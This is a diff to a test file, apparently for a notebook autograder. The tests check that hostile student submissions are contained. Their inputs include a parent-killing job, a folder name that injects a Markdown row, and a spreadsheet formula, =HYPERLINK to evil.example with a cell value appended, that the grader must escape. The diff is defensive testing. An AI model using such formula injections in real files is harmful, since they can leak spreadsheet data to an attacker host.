@@ -258,7 +258,10 @@ def test_a_class_of_submissions_is_graded_each_with_its_own_row(tmp_path, sentin
     assert ivy["00.first_job"].status == "crashed" and "exit code 3" in ivy["00.first_job"].detail
     assert ivy["00.quiz"].status == "passed"
     jon = lab_rows(rows, "jon", "00")  # kills its parent: without a sandbox that is the checker, so a crash
-    assert jon["00.first_job"].status == "crashed" and "SIGKILL" in jon["00.first_job"].detail
+    if sandboxed():  # its parent is its sandbox's, which it may not signal
+        assert jon["00.first_job"].status == "could not load" and "not permitted" in jon["00.first_job"].detail
+    else:
+        assert jon["00.first_job"].status == "crashed" and "SIGKILL" in jon["00.first_job"].detail
     assert jon["00.quiz"].status == "passed"
     mia = lab_rows(rows, "mia", "00")
     assert mia["00.first_job"].status == "could not load" and "SyntaxError" in mia["00.first_job"].detail
@@ -479,7 +482,7 @@ def test_a_hostile_class_earns_nothing_harms_nothing_and_leaves_nothing_running(
     }
     plan["eve!"], plan["eve?"] = notebook("00"), notebook("00", "labs")  # one file name to safe(): each their own
     injected = "| ben | 00.first_job | passed |"  # a folder name that would write a line into summary.md
-    plan[f"x\n{injected}"] = plan['=HYPERLINK("http://x")'] = notebook("00", "labs")  # and a formula into a CSV
+    plan[f"x\n{injected}"] = plan['=HYPERLINK("evil.example?"&A1,"click")'] = notebook("00", "labs")  # a formula
     odd = notebook("00")  # an exercise id that is not text: no exercise, and the class's gradebook still written
     next(c for c in odd.cells if exercise_of(c) == "00.quiz").metadata["course"] = {"exercise": ["00.quiz"]}
     plan["odd"] = odd
@@ -523,7 +526,7 @@ def test_a_hostile_class_earns_nothing_harms_nothing_and_leaves_nothing_running(
     for sheet in ("gradebook.csv", "grades-wide.csv"):
         with open(out / sheet, newline="") as f:
             names = {line[0] for line in csv.reader(f)}
-        assert "'=HYPERLINK(\"http://x\")" in names and not any(n.startswith("=") for n in names), names
+        assert "'=HYPERLINK(\"evil.example?\"&A1,\"click\")" in names and not any(n.startswith("=") for n in names), names
     if sandboxed():  # its TCP reached no port but its own
         with pytest.raises(BlockingIOError):
             listener.accept()
